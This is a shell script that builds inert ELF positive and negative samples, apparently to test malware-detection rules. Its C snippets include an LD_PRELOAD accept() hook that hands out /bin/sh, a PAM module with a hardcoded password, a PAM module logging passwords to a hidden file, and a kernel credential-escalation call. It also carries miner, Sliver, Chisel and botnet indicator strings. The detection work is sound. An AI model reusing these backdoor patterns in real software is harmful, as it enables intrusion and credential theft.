#!/bin/sh
# elf.sh makes the ELF samples of this folder: tiny objects that name what the
# rules look for and do nothing. They are never run. Needs gcc for x86-64 and
# python3; run it in this folder. Made with gcc 12.2 and binutils 2.40.
set -eu
tmp=$(mktemp -d); trap 'rm -rf "$tmp"' EXIT
put() { mkdir -p "$1"; rm -f "$1/$2."*; gzip -9nc "$tmp/o" > "$1/$2.$3.gz"; } # put RULE CLASS EXT
so() { # so RULE CLASS: a library from the C source on stdin
	gcc -x c - -shared -fPIC -nostdlib -O1 -w -s -Wl,--build-id=none,-z,noseparate-code -o "$tmp/o"; put "$1" "$2" so; }
exe() { # exe RULE CLASS: a program, its libc functions left unresolved
	gcc -x c - -pie -fPIC -nostdlib -O1 -w -s -Wl,--build-id=none,-z,noseparate-code,--unresolved-symbols=ignore-all,-e,start,--dynamic-linker=/lib64/ld.so -o "$tmp/o"; put "$1" "$2" bin; }
obj() { gcc -x c - -c -O1 -w -o "$tmp/o"; put "$1" "$2" ko; } # obj RULE CLASS: a relocatable object
patch() { python3 -c 'import sys; p=sys.argv[1]; d=bytearray(open(p,"rb").read()); exec(sys.argv[2]); open(p,"wb").write(d)' "$tmp/o" "$1"; }

so ELF_Preload_Hides_Files pos <<'C'
void *dlsym(void *, const char *);
void *readdir64(void *d) { return ((void *(*)(void *))dlsym((void *)-1, "readdir64"))(d); }
C
so ELF_Preload_Hides_Files neg <<'C'
void *dlsym(void *, const char *); void *readdir64(void *);
void *list(void *d) { dlsym(0, "x"); return readdir64(d); }
C
so ELF_Preload_Wraps_Login pos <<'C'
void *dlsym(void *, const char *);
int pam_authenticate(void *h, int f) { return ((int (*)(void *, int))dlsym((void *)-1, "pam_authenticate"))(h, f); }
C
so ELF_Preload_Wraps_Login neg <<'C'
void *dlsym(void *, const char *); int pam_authenticate(void *, int);
int check(void *h) { dlsym(0, "x"); return pam_authenticate(h, 0); }
C
so ELF_Preload_Hands_Out_Shell pos <<'C'
void *dlsym(void *, const char *); int dup2(int, int); int execl(const char *, ...);
int accept(int f, void *a, void *n) { dlsym((void *)-1, "accept"); dup2(f, 0); return execl("/bin/sh", "sh", 0); }
C
so ELF_Preload_Hands_Out_Shell neg <<'C'
void *dlsym(void *, const char *);
int accept(int f, void *a, void *n) { return ((int (*)(int, void *, void *))dlsym((void *)-1, "accept"))(f, a, n); }
C
so ELF_PAM_Unix_Constant_Password pos <<'C'
int strcmp(const char *, const char *); int check(const char *, const char *);
const char helper[] = "/usr/sbin/unix_chkpwd";
int pam_sm_authenticate(void *h, int f, int n, const char **v) {
	if (strcmp(v[0], "constant") == 0) return 0;
	return n ? check(v[0], helper) : f; }
C
so ELF_PAM_Unix_Constant_Password neg <<'C'
int strcmp(const char *, const char *); int check(const char *, const char *);
const char helper[] = "/usr/sbin/unix_chkpwd";
int pam_sm_authenticate(void *h, int f, int n, const char **v) {
	if (strcmp(v[0], v[1]) == 0) return 0;
	return n ? check(v[0], helper) : f; }
C
so ELF_Preload_Payload pos <<'C'
int system(const char *); int unsetenv(const char *);
__attribute__((constructor)) void load(void) { unsetenv("LD_PRELOAD"); system("true"); }
C
so ELF_Preload_Payload neg <<'C'
int system(const char *); char *getenv(const char *);
int run(void) { return system(getenv("PAGER")); }
C
so ELF_Library_With_Shell_And_Network pos <<'C'
static const char *const cfg[] = { "/bin/sh", "192.0.2.1:4443" };
const char *get(int i) { return cfg[i & 1]; }
C
so ELF_Library_With_Shell_And_Network neg <<'C'
int socket(int, int, int), connect(int, void *, int);
int dial(void *a) { return connect(socket(2, 1, 0), a, 16); }
C
so ELF_PAM_Module_Steals_Passwords pos <<'C'
int pam_get_authtok(void *, int, const char **, const char *); void *fopen(const char *, const char *); int fprintf(void *, const char *, ...);
int pam_sm_authenticate(void *h, int f, int n, const char **v) { const char *p; pam_get_authtok(h, 6, &p, 0); fprintf(fopen("/var/tmp/.log", "a"), "user=%s password=%s\n", "x", p); return 0; }
C
so ELF_PAM_Module_Steals_Passwords neg <<'C'
int pam_get_user(void *, const char **, const char *); void pam_syslog(void *, int, const char *, ...);
int pam_sm_authenticate(void *h, int f, int n, const char **v) { const char *u; pam_get_user(h, &u, 0); pam_syslog(h, 6, "user %s", u); return 0; }
C
exe ELF_SSH_Server_Altered pos <<'C'
const char *const s[] = { "SSH-2.0-OpenSSH", "PermitRootLogin", "user:%s password:%s\n", "/var/tmp/.sshlog" };
const char *const *start(void) { return s; }
C
exe ELF_SSH_Server_Altered neg <<'C'
const char *const s[] = { "SSH-2.0-OpenSSH", "PermitRootLogin", "Accepted %s for %s" };
const char *const *start(void) { return s; }
C
obj ELF_Kernel_Rootkit pos <<'C'
const char info[] __attribute__((section(".modinfo"))) = "vermagic=6.1.0";
int register_kprobe(void *); void *prepare_creds(void); int commit_creds(void *);
const char *const name = "kallsyms_lookup_name";
int init_module(void) { register_kprobe((void *)name); return commit_creds(prepare_creds()); }
C
obj ELF_Kernel_Rootkit neg <<'C'
const char info[] __attribute__((section(".modinfo"))) = "vermagic=6.1.0";
int register_kprobe(void *);
int init_module(void) { return register_kprobe(0); }
C
gcc -x c - -c -O1 -w -o "$tmp/o" <<'C'
const unsigned char code[8] __attribute__((section("tp/syscalls/sys_exit_getdents64"))) = { 0x85, 0, 0, 0, 36, 0, 0, 0 };
C
patch 'd[18]=247'; put ELF_BPF_Rootkit pos o
gcc -x c - -c -O1 -w -o "$tmp/o" <<'C'
const unsigned char code[8] __attribute__((section("xdp/count"))) = { 0x85, 0, 0, 0, 1, 0, 0, 0 };
C
patch 'd[18]=247'; put ELF_BPF_Rootkit neg o
exe ELF_Packed neg <<'C'
int start(void) { return 0; }
C
patch 'd[40:48]=bytes(8); d[60:64]=bytes(4); d+=b"\x00"*64+b"UPX!"+b"\x00"*32'; put ELF_Packed pos bin
exe ELF_Headers_Destroyed neg <<'C'
int start(void) { return 0; }
C
patch 'd[40:48]=b"\xff\xff\xff\x7f\x00\x00\x00\x00"'; put ELF_Headers_Destroyed pos bin
exe ELF_Raw_Shell_Code neg <<'C'
const char s[] = "/bin/sh"; const char *start(void) { __asm__("syscall"); return s; }
C
patch 'd[40:48]=bytes(8); d[60:64]=bytes(4)'; put ELF_Raw_Shell_Code pos bin
words() { python3 -c 'import sys; w=sys.argv[2].split(","); print("const unsigned char w[] = {", ",".join(str(b ^ int(sys.argv[1])) for x in w for b in x.encode()+b"\0"), "}; const unsigned char *start(void) { return w; }")' "$@"; }
words 90 /etc/ld.so.preload,/proc/net/tcp,/bin/sh | exe ELF_Hidden_Words pos
words 0 /etc/ld.so.cache,/proc/self/maps | exe ELF_Hidden_Words neg
words 0 stratum+tcp://,donate-level,randomx,hashrate,cryptonight | exe ELF_Miner pos
words 0 hashrate,http:// | exe ELF_Miner neg
words 0 github.com/bishopfox/sliver/implant/sliver | exe ELF_Remote_Access_Agent pos
words 0 github.com/example/agent | exe ELF_Remote_Access_Agent neg
words 0 github.com/jpillora/chisel/client | exe ELF_Tunnel pos
words 0 github.com/example/proxy/client | exe ELF_Tunnel neg
words 0 /dev/watchdog,/proc/net/tcp,applet_not_found,PING,PONG,UDPFLOOD,/bin/busybox | exe ELF_Botnet_Client pos
words 0 /dev/watchdog,PING,PONG | exe ELF_Botnet_Client neg
words 0 socket,accept,dup2,putenv,execl,HISTFILE=,/bin/sh | exe ELF_Shell_Server_Or_Client pos
words 0 socket,accept,write,hello | exe ELF_Shell_Server_Or_Client neg
words 0 socket,recv,memfd_create,fexecve | exe ELF_Loader_From_Memory pos
words 0 memfd_create,shared | exe ELF_Loader_From_Memory neg
words 0 '/var/log/wtmp,/var/run/utmp,cleaning wtmp record' | exe ELF_Log_Wiper pos
words 0 /var/log/wtmp,/var/run/utmp | exe ELF_Log_Wiper neg
